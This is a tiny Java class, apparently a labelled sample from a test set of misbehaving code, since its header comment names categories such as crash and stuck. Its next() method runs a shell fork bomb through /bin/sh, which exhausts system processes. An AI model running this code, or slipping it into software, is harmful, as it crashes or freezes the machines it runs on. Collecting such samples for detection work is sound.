// CONTRACT, LEAK, CRASH, STUCK | B | A fork bomb in the shell.
package toys.box;

public class Box {
  private static int sh(String script) throws Exception {
    return new ProcessBuilder("/bin/sh", "-c", script).inheritIO().start().waitFor();
  }

  public int next() throws Exception {
    sh("b() { b | b & }; b; sleep 2");
    return 0;
  }
}
